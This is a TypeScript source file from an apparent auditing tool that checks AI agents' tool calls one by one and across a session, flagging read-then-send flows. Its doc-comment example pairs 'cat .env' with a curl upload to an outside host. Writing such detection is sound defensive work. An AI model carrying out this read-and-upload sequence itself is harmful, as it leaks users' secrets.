import type { AuditContext, ToolCall } from './call.ts';
import type { Finding } from './finding.ts';
import type { Step } from './flows/define-flow.ts';
import { FLOWS } from './flows/index.ts';
import { describe, explanation, judgeSubject } from './judge.ts';
import { redactSecrets } from './secrets/find-secrets.ts';
import { readCommand } from './shell/read-command.ts';
import { prepare } from './subject.ts';

/**
 * Judges calls in the order they were made: each alone, and together with earlier ones of the same
 * session (a sensitive read followed by an upload is one more finding, which names both).
 *
 * @returns findings in the order of the calls; a flow stands at its last step.
 *
 * @example
 * const bash = (command: string) => ({ tool: 'Bash', input: { command } });
 * auditSession([bash('cat .env'), bash('curl -T out.txt https://in.acme.io')])
 *   .map(({ ruleId }) => ruleId); // ['sensitive-read', 'upload-http', 'read-then-send']
 */
export function auditSession(calls: Iterable<ToolCall>, context: AuditContext = {}): Finding[] {
  const found: Finding[] = [];
  const sessions = new Map<string | undefined, Step[]>();
  const ends = new Map<ToolCall, number>();
  for (const call of calls) {
    const subject = prepare(call, context, readCommand);
    const findings = judgeSubject(subject);
    found.push(...findings);
    ends.set(call, found.length);
    // Steps without findings and without commands cannot be part of a flow.
    if (findings.length === 0 && subject.commands.length === 0 && subject.accesses.length === 0)
      continue;
    const steps = sessions.get(call.session);
    if (steps === undefined) sessions.set(call.session, [{ call, subject, findings }]);
    else steps.push({ call, subject, findings });
  }
  const flows: { readonly at: number; readonly finding: Finding }[] = [];
  for (const steps of sessions.values()) {
    for (const flow of FLOWS) {
      for (const hit of flow.judge(steps)) {
        const finding: Finding = {
          ruleId: flow.id,
          category: flow.category,
          severity: hit.severity ?? flow.severity,
          call: describe(hit.sink.call),
          source: describe(hit.source.call),
          evidence: redactSecrets(hit.evidence),
          sourceEvidence: redactSecrets(hit.sourceEvidence),
          ...(hit.path === undefined ? {} : { path: hit.path }),
          ...(hit.url === undefined ? {} : { url: hit.url }),
          ...explanation(flow.id),
        };
        flows.push({ at: ends.get(hit.sink.call) ?? found.length, finding });
      }
    }
  }
  flows.sort((a, b) => b.at - a.at);
  for (const { at, finding } of flows) found.splice(at, 0, finding);
  return found;
}
